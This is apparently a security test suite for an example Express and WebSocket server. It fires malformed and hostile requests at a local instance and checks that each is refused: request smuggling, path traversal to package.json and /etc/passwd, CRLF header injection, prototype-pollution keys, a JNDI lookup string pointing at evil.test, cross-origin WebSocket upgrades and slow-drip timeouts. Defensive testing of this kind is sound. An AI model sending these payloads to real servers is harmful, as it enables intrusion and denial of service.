import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setFlagsFromString } from 'node:v8'
import { runInNewContext } from 'node:vm'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { WebSocket } from 'ws'
import { type RunningServer, type ServerOptions, startServer } from '../../examples/express-server/start.ts'

setFlagsFromString('--expose-gc')
const gc = runInNewContext('gc') as () => void

const TOKEN = 'of-tests-only-0123456789'
const FRIEND = 'https://friend.test'
const OPTIONS = { port: 0, host: '127.0.0.1', patienceMs: 500, worker: false, token: TOKEN, cors: [FRIEND] } satisfies ServerOptions

let server: RunningServer
let sockets: number

/** Connections of this process, both ends of them. */
const openSockets = (): number => process.getActiveResourcesInfo().filter((name) => name === 'TCPSocketWrap').length

/** What the server says until it closes the connection; `act` goes on speaking. */
function spoken(text: string | Buffer, { url = server.url, act = () => undefined }: { url?: string; act?: (socket: Socket) => void } = {}): Promise<string> {
  return new Promise((resolve) => {
    let heard = ''
    const socket = connect(Number(new URL(url).port), '127.0.0.1', () => {
      socket.write(text)
      act(socket)
    })
    const late = setTimeout(() => socket.destroy(new Error('the connection stayed open')), 10_000)
    socket.setEncoding('latin1').on('data', (part: string) => (heard += part))
    socket.on('error', ({ message }) => (heard += `<${message}>`))
    socket.on('close', () => {
      clearTimeout(late)
      resolve(heard)
    })
  })
}

const request = (method: string, path: string, headers: readonly string[] = [], body = ''): string =>
  `${[`${method} ${path} HTTP/1.1`, 'host: x', 'connection: close', ...headers].join('\r\n')}\r\n\r\n${body}`
const get = (path: string, ...headers: string[]): string => request('GET', path, headers)
const JSON_TYPE = 'content-type: application/json'
const BEARER = `authorization: Bearer ${TOKEN}`
const post = (path: string, body: string, ...headers: string[]): string =>
  request('POST', path, [JSON_TYPE, BEARER, `content-length: ${Buffer.byteLength(body)}`, ...headers], body)
const withBody = (path: string, body: string, ...headers: string[]): string => request('POST', path, [JSON_TYPE, ...headers], body)
const upgrade = (path: string, ...headers: string[]): string =>
  get(path, 'sec-websocket-version: 13', 'sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==', 'upgrade: websocket', ...headers).replace(': close', ': upgrade')

/** Of the first answer that is final. */
const statusOf = (heard: string): string => /^HTTP\/1\.1 (?!100)(\d{3}) /m.exec(heard)?.[1] ?? heard.slice(0, 80)
const headOf = (heard: string): string => heard.split('\r\n\r\n', 1)[0] ?? ''

/** It answers within a second: one late answer may be the fault of a test beside this one. */
async function isAlive(url = server.url): Promise<void> {
  await expect
    .poll(async () => {
      const from = performance.now()
      const status = statusOf(await spoken(get('/health'), { url }))
      return [status, performance.now() - from < 1_000]
    })
    .toEqual(['200', true])
}

/** Nothing of what was before is still open. */
async function isQuiet(): Promise<void> {
  await expect.poll(openSockets).toBeLessThanOrEqual(sockets)
}

beforeAll(async () => {
  server = await startServer({ ...OPTIONS, socket: { maxConnections: 3, maxMessages: 20, maxMessageBytes: 4_096 } })
  await spoken(get('/health'))
  sockets = openSockets()
})
afterEach(async () => {
  await isAlive()
  await isQuiet()
})
afterAll(() => server.close())

const LONG = 'a'.repeat(20_000)
const CHUNKS = `1000\r\n${' '.repeat(4_096)}\r\n`.repeat(30)

const MALFORMED: readonly (readonly [string, string | Buffer, string])[] = [
  ['a header of 20 kB', get('/health', `x-a: ${LONG}`), '431'],
  ['3,000 headers', get('/health', ...Array.from({ length: 3_000 }, (_, count) => `x-${count}: 1`)), '431'],
  ['a URL of 20 kB', get(`/${LONG}`), '431'],
  ['a URL of 15 kB', get(`/${LONG.slice(5_000)}`), '404'],
  ['a query of 15 kB', get(`/health?${LONG.slice(5_000)}`), '414'],
  ['a length and chunks', withBody('/api/watchlist', '0\r\n\r\nGET /api/logs HTTP/1.1\r\n\r\n', 'content-length: 4', 'transfer-encoding: chunked'), '400'],
  ['two lengths', withBody('/api/watchlist', 'null', 'content-length: 4', 'content-length: 5'), '400'],
  ['a length below zero', withBody('/api/watchlist', 'null', 'content-length: -1'), '400'],
  ['chunks that are not the last encoding', withBody('/api/watchlist', '0\r\n\r\n', 'transfer-encoding: chunked, identity'), '400'],
  ['a chunk larger than a number can say', withBody('/api/watchlist', `${'f'.repeat(20)}\r\n`, 'transfer-encoding: chunked'), '400'],
  ['a chunk with an endless extension', withBody('/api/watchlist', `1;${LONG}`, 'transfer-encoding: chunked'), '413'],
  ['an endless trailer', withBody('/api/watchlist', `0\r\nx: ${LONG}`, 'transfer-encoding: chunked'), '431'],
  ['a body larger than is allowed, announced', withBody('/api/watchlist', '', 'content-length: 99999999'), '413'],
  ['the same, asking first', withBody('/api/watchlist', '', 'content-length: 99999999', 'expect: 100-continue'), '413'],
  ['another expectation', withBody('/api/watchlist', 'null', 'content-length: 4', 'expect: money'), '417'],
  ['chunks without end', withBody('/api/watchlist', CHUNKS, 'transfer-encoding: chunked'), '413'],
  ['a body longer than it says', withBody('/api/watchlist', '{"action":"list"}GET /api/logs', 'content-length: 17'), '400'],
  ['a compressed body', withBody('/api/simulation/kraken', 'x'.repeat(100), 'content-encoding: gzip', 'content-length: 100'), '400'],
  ['no JSON', post('/api/watchlist', '{"action":'), '400'],
  ['20,000 levels of JSON', post('/api/watchlist', `{"action":${'['.repeat(20_000)}${']'.repeat(20_000)}}`), '400'],
  ['a method that is none', request('BREW', '/health'), '400'],
  ['the start of TLS', Buffer.from('16030102000100', 'hex'), '400'],
  ['HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', '400'],
  ['bare line feeds', get('/health').replaceAll('\r', ''), '400'],
  ['a folded header', get('/health', ' x: y'), '400'],
  ['a space before a colon', get('/health', 'x-a : y'), '400'],
  ['a NUL in the URL', get('/static/\0'), '400'],
  ['a NUL in a header', get('/health', 'x-a: \0'), '400'],
  ['no host', get('/health').replace('host: x\r\n', ''), '400'],
  ['500 ranges', get('/', `range: bytes=${Array.from({ length: 500 }, (_, from) => `${from}-`).join(',')}`), '206'],
]

const ELSEWHERE: readonly (readonly [string, string | Buffer, string])[] = [
  ...[
    '/static/..%2f..%2fpackage.json',
    '/static/%2e%2e/%2e%2e/package.json',
    '/static/%2e%2e%2f%2e%2e%2fpackage.json',
    '/static/../../package.json',
    '/static/../express-server/start.ts',
    '/static/..\\..\\package.json',
    '/static/..%5c..%5cpackage.json',
    '/static/%252e%252e%252fpackage.json',
    '/static//etc/passwd',
    '/static/%2fetc%2fpasswd',
    '/static%2fpages%2fphase2-demo.html',
    '/static/pages/phase2-demo.html%00.js',
    '/static/.env',
    '/static/',
    '/static/pages',
    '/static/%',
    '/static/%E0%A4%A',
    '/static/a%0d%0aset-cookie:%20x=1',
    '//evil.test/health',
    '//evil.test/static/pages/phase2-demo.html',
    '/__proto__',
    '/api/pools/__proto__',
    '/api/pools/constructor',
    '/api/history/health?provider=__proto__',
    '/api/history/health?provider=constructor',
  ].map((path) => [path, get(path), '404'] as const),
  ...[
    '/api/simulation/%',
    '/api/providers/%00',
    '/api/providers/a%0d%0aset-cookie:%20x=1',
    '/api/multi-source/ohlc/BTC%0d%0aset-cookie:%20x=1',
    '/api/market/price?symbol=BTC%0d%0aset-cookie:%20x=1',
    '/api/history/prices?symbol=__proto__',
    '/api/history/prices?__proto__=BTC',
    '/api/history/prices?symbol=BTC&symbol=ETH',
    '/api/history/prices?symbol[]=BTC',
    '/api/stream?topics=__proto__',
    '/api/stream?__proto__=status',
    '/api/logs?constructor=1',
  ].map((path) => [path, get(path), '400'] as const),
  ['a whole address of another host', get('http://evil.test/static/../../package.json'), '404'],
  ['a whole address with a password', get('http://user:pass@evil.test/%2e%2e/package.json'), '404'],
  ['TRACE', request('TRACE', '/health', ['cookie: secret']), '405'],
  ['TRACE of a file', request('TRACE', '/static/feedmux-status.js', ['cookie: secret']), '404'],
  ['CONNECT', request('CONNECT', 'evil.test:443'), ''],
  ['OPTIONS *', request('OPTIONS', '*'), '404'],
]

describe('the server survives, and answers shortly', () => {
  it.each(MALFORMED)('%s', async (_, text, status) => {
    const heard = await spoken(text)
    expect([statusOf(heard), heard.length < 50_000]).toEqual([status, true])
    expect(heard).not.toMatch(/ at .*\.[jt]s:\d+|node_modules/) // no stack of ours
  })

  it.each(ELSEWHERE)('%s, which leads nowhere', async (_, text, status) => {
    const heard = await spoken(text)
    expect(statusOf(heard)).toBe(status)
    expect(headOf(heard)).not.toMatch(/set-cookie|location|evil/i)
    expect(heard).not.toMatch(/"devDependencies"|root:x:|startServer|secret/)
  })

  it('methods that tell, without telling more', async () => {
    const [head = '', full = '', allowed = ''] = await Promise.all(['HEAD', 'GET', 'OPTIONS'].map((method) => spoken(request(method, '/'))))
    expect([statusOf(head), statusOf(full), statusOf(allowed)]).toEqual(['200', '200', '204'])
    expect([head.endsWith('\r\n\r\n'), /content-length: (\d+)/i.exec(head)?.[1]]).toEqual([true, /content-length: (\d+)/i.exec(full)?.[1]])
    expect(headOf(await spoken(request('OPTIONS', '/health')))).toContain('allow: GET, HEAD, OPTIONS')
    const stream = await spoken(request('HEAD', '/api/stream'))
    expect([statusOf(stream), stream.endsWith('\r\n\r\n')]).toEqual(['200', true])
  })

  it('1,000 requests in one packet, each of them answered', async () => {
    const heard = await spoken(`${get('/health').replace('connection: close\r\n', '').repeat(999)}${get('/health')}`)
    expect(heard.match(/HTTP\/1\.1 200 OK/g)).toHaveLength(1_000)
  })
})

describe('the host that a request names', () => {
  it.each(['evil.test', 'evil.test/../x', 'user@evil.test', '127.0.0.1:1', '\'"><script>', ''])('%j is in no answer', async (host) => {
    for (const path of ['/openapi.json', '/docs', '/', '/health']) {
      const heard = await spoken(get(path, 'x-forwarded-host: evil.test', 'forwarded: host=evil.test').replace('host: x', `host: ${host}`))
      expect([path, statusOf(heard), /evil\.test|'"><script>/.test(heard)]).toEqual([path, '200', false])
    }
  })
})

describe('a token', () => {
  const ask = async (...authorizations: string[]): Promise<string> =>
    statusOf(
      await spoken(
        Buffer.from(
          request(
            'DELETE',
            '/api/logs',
            authorizations.map((text) => `authorization: ${text}`),
          ),
          'latin1',
        ),
      ),
    )

  it.each([
    '',
    'Bearer',
    'Bearer ',
    TOKEN,
    `Basic ${TOKEN}`,
    `Bearer ${TOKEN.slice(0, -1)}`,
    `Bearer ${TOKEN}x`,
    `Bearer ${TOKEN} ${TOKEN}`,
    `Bearer ${TOKEN}, Bearer ${TOKEN}`,
    `Bearer "${TOKEN}"`,
    `Bearer ${TOKEN.toUpperCase()}`,
    `Bearer ${'x'.repeat(10_000)}`,
    'Bearer \u00e9\u00ff',
    'Bearer null',
    'Bearer [object Object]',
    'Bearer ${jndi:ldap://evil.test}',
  ])('like %j is refused', async (authorization) => expect(await ask(authorization)).toBe('401'))

  it('that is missing, or comes after a wrong one, is refused', async () => {
    expect([await ask(), await ask('Bearer x', `Bearer ${TOKEN}`), await ask(`Bearer ${TOKEN}`)]).toEqual(['401', '401', '200'])
  })

  it('is needed for every edit of a pool, whatever the body', async () => {
    const body = '{"name":"x","category":"market_price","rotation_strategy":"priority"}'
    const edits = [
      ['POST', '/api/pools'],
      ['PUT', '/api/pools/default'],
      ['DELETE', '/api/pools/default'],
      ['POST', '/api/pools/default/members'],
      ['DELETE', '/api/pools/default/members/kraken'],
      ['POST', '/api/pools/default/rotate'],
    ] as const
    const before = await spoken(get('/api/pools'))
    for (const [method, path] of edits) {
      const refused = await spoken(request(method, path, [JSON_TYPE, `content-length: ${body.length}`], body))
      expect([method, path, statusOf(refused)]).toEqual([method, path, '401'])
    }
    const pools = (heard: string): unknown =>
      (JSON.parse(heard.split('\r\n\r\n')[1] ?? '') as { pools: { pool_id: string }[] }).pools.map((pool) => pool.pool_id)
    expect(pools(await spoken(get('/api/pools')))).toEqual(pools(before))
  })
})

describe('keys of the prototype', () => {
  it.each(['__proto__', 'constructor', 'prototype'])('%s reaches nothing', async (key) => {
    const bodies: readonly (readonly [string, string, string])[] = [
      ['/api/watchlist', `{"action":"list","${key}":{"polluted":true}}`, '400'],
      ['/api/pools', `{"name":"p","category":"news","rotation_strategy":"priority","${key}":{"polluted":true}}`, '400'],
      [`/api/pools/${key}/members`, '{"provider_id":"kraken"}', '404'],
      [`/api/simulation/${key}`, '{"fault":"kill"}', '404'],
      ['/api/simulation/kraken', `{"fault":"${key}"}`, '400'],
      ['/api/simulation/kraken', `{"${key}":{"fault":"kill"}}`, '400'],
    ]
    for (const [path, body, status] of bodies) expect([path, body, statusOf(await spoken(post(path, body)))]).toEqual([path, body, status])
    expect([({} as { polluted?: unknown }).polluted, Object.keys(Object.prototype)]).toEqual([undefined, []])
    expect(await spoken(get('/api/simulation'))).not.toMatch(/"fault":"/)
  })
})

describe('a client of the stream', () => {
  const opened = async (headers: Record<string, string> = {}): Promise<WebSocket> => {
    const socket = new WebSocket(`${server.url.replace('http', 'ws')}/ws`, { headers })
    socket.on('error', () => undefined)
    await once(socket, 'open')
    return socket
  }
  const ended = (socket: WebSocket): Promise<number> => new Promise((resolve) => socket.once('close', resolve))

  it.each([
    ['of another page', upgrade('/ws', 'origin: https://evil.test'), '403'],
    ['of a page that names no origin', upgrade('/ws', 'origin: null'), '403'],
    ['of a page of a similar name', upgrade('/ws', `origin: ${FRIEND}.evil.test`), '403'],
    ['at another path', upgrade('/static/ws'), '404'],
    ['at an address that is none', upgrade('//[/ws'), '404'],
    ['with a body', upgrade('/ws').replace('GET', 'POST'), '405'],
    ['without a key', upgrade('/ws').replace(/sec-websocket-key.*\r\n/, ''), '400'],
  ])('%s is refused', async (_, text, status) => expect(statusOf(await spoken(text))).toBe(status))

  it('of a friend gets in, without compression, until all places are taken', async () => {
    const all = [await opened({ origin: FRIEND }), await opened(), await opened({ 'x-forwarded-for': '10.0.0.1' })]
    expect(all.map(({ extensions }) => extensions)).toEqual(['', '', '']) // a bomb has to be compressed
    const refused = await spoken(upgrade('/ws'))
    expect([statusOf(refused), refused.includes('Retry-After: 30')]).toEqual(['503', true])
    const gone = all.map(ended)
    for (const socket of all) socket.close()
    await Promise.all(gone)
  })

  it.each([
    ['a message that is too large', (socket: WebSocket) => socket.send('x'.repeat(4_097)), 1009],
    ['a message of many parts that is too large', (socket: WebSocket) => Array.from({ length: 100 }, () => socket.send('x'.repeat(100), { fin: false })), 1009],
    ['a message of parts without end', (socket: WebSocket) => Array.from({ length: 1_000 }, () => socket.send('x', { fin: false })), 1008],
    ['messages without end', (socket: WebSocket) => Array.from({ length: 30 }, () => socket.send('{"type":"ping"}')), 1008],
    ['pings without end', (socket: WebSocket) => Array.from({ length: 30 }, () => socket.ping('x')), 1008],
    ['what is no UTF-8', (socket: WebSocket) => socket.send(Buffer.from([0xff]), { binary: false }), 1007],
  ] as const)('with %s is sent away', async (_, attack, code) => {
    const socket = await opened()
    attack(socket)
    expect(await ended(socket)).toBe(code)
  })

  it.each([
    ['more than memory has', '81ff7fffffffffffffff00000000'],
    ['no mask', '8105 68656c6c6f'],
    ['compression that was not agreed', 'c18500000000 68656c6c6f'],
    ['a ping that is too large', '89fe007f00000000'],
  ])('with a frame that says %s is sent away', async (_, hex) => {
    const heard = await spoken(upgrade('/ws'), { act: (socket) => socket.write(Buffer.from(hex.replaceAll(' ', ''), 'hex')) })
    expect(statusOf(heard)).toBe('101')
  })

  it('gets a plain error for what it should not have said', async () => {
    const socket = await opened()
    const errors: unknown[] = []
    socket.on('message', (data: Buffer) => {
      const { type, code } = JSON.parse(data.toString()) as { type: string; code?: string }
      if (type === 'error') errors.push(code)
    })
    const wrong = [
      '{"type":"__proto__"}',
      '{"__proto__":{"type":"ping"}}',
      '[]',
      'null',
      '{"type":"subscribe","group":"__proto__"}',
      '{"type":"subscribe","group":"constructor"}',
    ]
    for (const text of wrong) socket.send(text)
    socket.send(Buffer.from('{"type":"ping"}'))
    await expect.poll(() => errors).toEqual(['unknown-type', 'bad-message', 'bad-message', 'bad-message', 'unknown-group', 'unknown-group', 'bad-message'])
    const gone = ended(socket)
    socket.terminate()
    await gone
  })
})

describe('clients that take their time', () => {
  let impatient: RunningServer
  beforeAll(async () => {
    const limits = { headersTimeoutMs: 1_000, requestTimeoutMs: 1_000, bodyTimeoutMs: 500, maxConnections: 60 }
    impatient = await startServer({ ...OPTIONS, ...limits })
    await spoken(get('/health'), impatient)
    sockets = openSockets()
  })
  afterEach(() => isAlive(impatient.url))
  afterAll(() => impatient.close())

  const dripping = (text: string): ((socket: Socket) => void) => {
    return (socket) => {
      const drip = setInterval(() => socket.write(text), 100)
      socket.on('close', () => clearInterval(drip))
    }
  }

  it('are cut off, whatever it is that does not come, and others are answered meanwhile', async () => {
    const { url } = impatient
    const unfinished = (path: string, body: string, ...headers: string[]): string => withBody(path, body, BEARER, ...headers)
    const slow = {
      headers: spoken('GET /health HTTP/1.1\r\nhost: x\r\nx-slow: ', { url, act: dripping('a') }),
      'a body': spoken(unfinished('/api/watchlist', '{', 'content-length: 1000'), { url, act: dripping(' ') }),
      'chunks of a body': spoken(unfinished('/api/watchlist', '', 'transfer-encoding: chunked'), { url, act: dripping('1\r\n \r\n') }),
      'a body that nobody wants': spoken(unfinished('/api/pools', '', 'content-length: 1000').replace(TOKEN, 'x'), { url, act: dripping(' ') }),
      "a body of the example's own": spoken(unfinished('/api/simulation/kraken', '{', 'content-length: 1000'), { url, act: dripping(' ') }),
      'the same without end': spoken(unfinished('/api/simulation/kraken', CHUNKS, 'transfer-encoding: chunked'), { url, act: dripping('1\r\n \r\n') }),
    }
    await isAlive(url)
    const statuses = await Promise.all(Object.entries(slow).map(async ([name, heard]) => [name, statusOf(await heard)]))
    expect(Object.fromEntries(statuses)).toEqual({
      headers: '408',
      'a body': '408',
      'chunks of a body': '408',
      'a body that nobody wants': '401',
      "a body of the example's own": '408',
      'the same without end': '408',
    })
  })

  it('and say nothing at all lose their places to others', async () => {
    const idle = Array.from({ length: 80 }, () => spoken('', { url: impatient.url }))
    await isAlive(impatient.url) // not before those have been cut off
    const statuses = new Set((await Promise.all(idle)).map(statusOf))
    expect([...statuses].sort()).toEqual(['', '408'])
  })
})

describe('event streams beyond their limit', () => {
  it('are refused, and their places are free again', async () => {
    const places: Socket[] = []
    const stream = (): Promise<string> =>
      new Promise((resolve) => {
        const socket = connect(Number(new URL(server.url).port), '127.0.0.1', () => socket.write(get('/api/stream?topics=status')))
        socket.once('data', (part) => resolve(statusOf(part.toString()))).on('error', () => undefined)
        socket.resume()
        places.push(socket)
      })
    const statuses = await Promise.all(Array.from({ length: 520 }, stream))
    expect([statuses.filter((status) => status === '200').length, statuses.filter((status) => status === '503').length]).toEqual([500, 20])
    await isAlive()
    for (const socket of places) socket.destroy()
    await expect.poll(async () => statusOf(await spoken(request('HEAD', '/api/stream')))).toBe('200')
  })
})

describe('all of it again and again', () => {
  it('leaves nothing in memory', async () => {
    const round = async (): Promise<void> => {
      for (const [, text] of [...MALFORMED, ...ELSEWHERE]) await spoken(text)
    }
    const used = (): number => {
      gc()
      return process.memoryUsage().heapUsed
    }
    for (let count = 0; count < 3; count++) await round()
    const before = used()
    for (let count = 0; count < 6; count++) await round()
    // what is sent in six rounds is more
    expect(used() - before).toBeLessThan(1.5 * 1_048_576)
  })
})
